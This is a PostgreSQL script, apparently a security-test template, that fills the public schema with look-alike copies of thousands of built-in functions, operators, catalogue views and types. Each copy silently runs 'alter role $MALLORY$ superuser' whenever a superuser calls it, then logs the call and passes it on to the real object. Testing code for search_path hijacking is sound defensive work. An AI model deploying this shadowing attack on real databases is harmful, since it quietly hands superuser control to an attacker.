-- A hostile schema public: a twin of every function, operator and catalogue whose name is in $NAMES$, ahead of Postgres' own
-- in the search path. Each twin makes $MALLORY$ superuser where it can, says its name, and then does what it should.
create sequence public.calls;
create table public.called (who text);
grant usage on sequence public.calls to public;
grant insert on public.called to public;
create function public.spy(what pg_catalog.text) returns pg_catalog.int4 language plpgsql volatile set search_path = pg_catalog as $$
begin
  perform nextval('public.calls');
  if (select rolsuper from pg_roles where rolname = current_user) then
    execute 'alter role $MALLORY$ superuser';
  end if;
  raise warning 'the shadow of % ran as %', what, current_user;
  return 0;
end $$;
set search_path = pg_catalog;
do $do$
declare
  names text[] := '$NAMES$';
  p record;
  arguments text;
  types text;
  failed int := 0;
  made int := 0;
begin
  -- functions with the same arguments, which hide Postgres' own
  for p in
    select f.oid, f.proname, f.proargtypes, f.prorettype, f.proretset, f.prokind, f.provariadic, f.pronargs,
           (select array_agg(format_type(t, null) order by i) from unnest(f.proargtypes::oid[]) with ordinality a(t, i)) as type_names
      from pg_proc f where f.pronamespace = 'pg_catalog'::regnamespace and f.proname = any (names) and f.prokind in ('f', 'a')
  loop
    begin
      types := coalesce(array_to_string(p.type_names, ', '), '');
      if p.prokind = 'f' then
        select string_agg('$' || i, ', ') into arguments from generate_series(1, p.pronargs) i;
        execute format('create function public.%I(%s) returns %s %s language plpgsql as $f$ begin perform public.spy(%L); %s end $f$',
          p.proname, types, case when p.proretset then 'setof' else '' end, format_type(p.prorettype, null), p.proname,
          case when p.proretset then format('return query select * from pg_catalog.%I(%s);', p.proname, arguments)
               when p.prorettype = 'void'::regtype then format('perform pg_catalog.%I(%s);', p.proname, arguments)
               else format('return pg_catalog.%I(%s);', p.proname, arguments) end);
      else
        execute format('create function public.step_of_%s(bigint%s) returns bigint language plpgsql as $f$ begin perform public.spy(%L); return 1; end $f$',
          p.oid, case types when '' then '' else ', ' || types end, p.proname);
        execute format('create aggregate public.%I(%s) (sfunc = public.step_of_%s, stype = bigint, initcond = 0)',
          p.proname, case types when '' then '*' else types end, p.oid);
      end if;
      made := made + 1;
    exception when others then
      failed := failed + 1;  -- what has no such twin: internal types, "any"
    end;
  end loop;
  -- closer than the variadic ones of "any"
  foreach types in array array['text, text', 'text, int', 'text, bigint', 'text, name', 'text, oid', 'text, regclass', 'text, regprocedure',
                               'text, text, text', 'text, name, name', 'text, name, text', 'text, text, text, text', 'text, text, text, text, text'] loop
    select string_agg('$' || i, ', ') into arguments from generate_series(2, 1 + array_length(string_to_array(types, ','), 1) - 1) i;
    execute format('create function public.format(%s) returns text language plpgsql as $f$ begin perform public.spy(''format''); return pg_catalog.format($1%s); end $f$',
      types, coalesce(', ' || arguments, ''));
  end loop;
  for p in select * from (values ('json_build_object'), ('concat'), ('num_nonnulls')) v(proname) loop
    execute format('create function public.%I(text, text) returns json language plpgsql as $f$ begin perform public.spy(%L); return ''{}''; end $f$', p.proname, p.proname);
    execute format('create function public.%I(text, json) returns json language plpgsql as $f$ begin perform public.spy(%L); return ''{}''; end $f$', p.proname, p.proname);
  end loop;
  -- operators
  for p in
    select o.oid, o.oprname, o.oprleft, o.oprright, o.oprresult from pg_operator o
     where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprleft <> 0
       and o.oprname in ('=', '<>', '<', '>', '<=', '>=', '||', '->>', '->', '~', '~*', '!~', '!~*', '~~', '!~~', '~~*', '+', '-', '*', '/', '%', '&', '|', '<<', '>>', '?', '*=', '*<>', '@>', '<@', '&&')
  loop
    begin
      execute format('create function public.operator_%s(%s, %s) returns %s language plpgsql as $f$ begin perform public.spy(%L); return $1 operator(pg_catalog.%s) $2; end $f$',
        p.oid, format_type(p.oprleft, null), format_type(p.oprright, null), format_type(p.oprresult, null), 'operator ' || p.oprname, p.oprname);
      execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.operator_%s)',
        p.oprname, format_type(p.oprleft, null), format_type(p.oprright, null), p.oid);
      made := made + 1;
    exception when others then
      failed := failed + 1;
    end;
  end loop;
  -- tables and views of the catalogue
  for p in select c.relname from pg_class c where c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v') and c.relname = any (names) loop
    begin
      execute format('create view public.%I as select c.*, public.spy(%L) as spied from pg_catalog.%I c', p.relname, p.relname, p.relname);
      execute format('grant select on public.%I to public', p.relname);
      made := made + 1;
    exception when others then
      failed := failed + 1;
    end;
  end loop;
  -- types
  for p in select t.typname from pg_type t where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype = 'b' and t.typelem = 0 and t.typname = any (names) loop
    begin
      execute format('create domain public.%I as pg_catalog.%I check (public.spy(%L) operator(pg_catalog.=) 0)', p.typname, p.typname, 'type ' || p.typname);
      made := made + 1;
    exception when others then
      failed := failed + 1;
    end;
  end loop;
  if made < 1000 then
    raise exception 'only % shadows, % failed', made, failed;
  end if;
end $do$;
